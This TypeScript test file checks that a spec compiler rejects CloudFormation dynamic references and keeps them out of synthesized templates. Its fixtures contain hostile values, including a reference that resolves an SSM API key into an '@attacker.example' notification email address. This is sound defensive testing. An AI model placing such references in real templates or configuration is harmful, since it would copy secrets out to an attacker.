/**
 * CloudFormation resolves `{{resolve:…}}` wherever it appears in a template, so a
 * spec value that reached a state machine definition, a tag or an SNS endpoint
 * would copy a secret into it at deploy time. Hostile builds — dynamic references
 * in the fields that reach templates, in a use case and in platform.yaml — are
 * synthesized and every template is searched.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { CompileResult } from '../../src/compile.ts';
import type { SourceFile } from '../../src/spec/files.ts';
import { compileToBuild } from './compiled.ts';
import { type Synthesized, synthesize } from './synth.ts';

const SECRET = 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf';
const REFERENCE = /\{\{\s*resolve\s*:/i;

const spark = (useCase: string, extra: string): string =>
  [
    `owner: ${useCase}@acme.example`,
    'dags:',
    `  - name: ${useCase}-report`,
    '    type: transformation',
    extra,
    '    spark:',
    `      entrypoint: s3://acme-artifacts/${useCase}/jobs/report.py`,
    '      arguments: ["--date", "{{ ds }}"]',
    '',
  ].join('\n');

/** Each hostile value is one CloudFormation would resolve, in a field that reaches a template. */
const USE_CASE_TREE: SourceFile[] = [
  { path: 'platform.yaml', text: 'prefix: acme\nregion: eu-west-1\n' },
  { path: 'describe/orchestration.yaml', text: spark('describe', `    description: "{{resolve:secretsmanager:${SECRET}:SecretString:password}}"`) },
  { path: 'mail/orchestration.yaml', text: spark('mail', '    notification: {emails: ["{{resolve:ssm:/acme/prod/api-key}}@attacker.example"]}') },
  { path: 'spaced/orchestration.yaml', text: spark('spaced', '    description: "{{ Resolve : ssm:/acme/prod/api-key}}"') },
  { path: 'clean/orchestration.yaml', text: spark('clean', '    description: Daily report ({{ ds }} is a run template, not a dynamic reference).') },
];

const PLATFORM_TREE: SourceFile[] = [
  { path: 'platform.yaml', text: 'prefix: acme\nregion: eu-west-1\nnotifications:\n  emails: ["{{resolve:ssm:/acme/prod/api-key}}@attacker.example"]\n' },
  { path: 'clean/orchestration.yaml', text: spark('clean', '    description: Daily report.') },
];

/** Every dynamic reference in any template of `s`, with a little context. */
function referencesIn(s: Synthesized): string[] {
  const text = [...s.json.values()].map((t) => JSON.stringify(t)).join('\n');
  return [...text.matchAll(new RegExp(`.{0,40}${REFERENCE.source}.{0,40}`, 'gi'))].map((m) => m[0]);
}

describe('no dynamic reference reaches a synthesized template', () => {
  let byUseCase: { result: CompileResult; s: Synthesized };
  let byPlatform: { result: CompileResult; s: Synthesized };

  beforeAll(() => {
    const a = compileToBuild(USE_CASE_TREE);
    byUseCase = { result: a.result, s: synthesize(a.buildDir) };
    const b = compileToBuild(PLATFORM_TREE);
    byPlatform = { result: b.result, s: synthesize(b.buildDir) };
  }, 240_000);

  it('refuses the use cases that hold one, at the value, and compiles the others', () => {
    const errors = byUseCase.result.diagnostics.filter((d) => d.severity === 'error').map((d) => `${d.file}:${d.line}:${d.column} ${d.code}`);
    expect(errors).toEqual([
      'describe/orchestration.yaml:5:19 SPEC_DYNAMIC_REFERENCE',
      'mail/orchestration.yaml:5:30 SPEC_DYNAMIC_REFERENCE',
      'spaced/orchestration.yaml:5:19 SPEC_DYNAMIC_REFERENCE',
    ]);
    expect(byUseCase.result.useCases.map((u) => u.name)).toEqual(['clean']);
  });

  it('leaves none in any template of a build with hostile use cases', () => {
    expect([...byUseCase.s.json.keys()]).toContain('acme-clean');
    expect(referencesIn(byUseCase.s)).toEqual([]);
  });

  it('leaves none in any template when platform.yaml holds one', () => {
    expect(byPlatform.result.diagnostics.filter((d) => d.severity === 'error').map((d) => `${d.file}:${d.line}:${d.column} ${d.code}`)).toEqual(['platform.yaml:4:13 SPEC_DYNAMIC_REFERENCE']);
    expect(byPlatform.s.json.size).toBeGreaterThan(0);
    expect(referencesIn(byPlatform.s)).toEqual([]);
  });
});
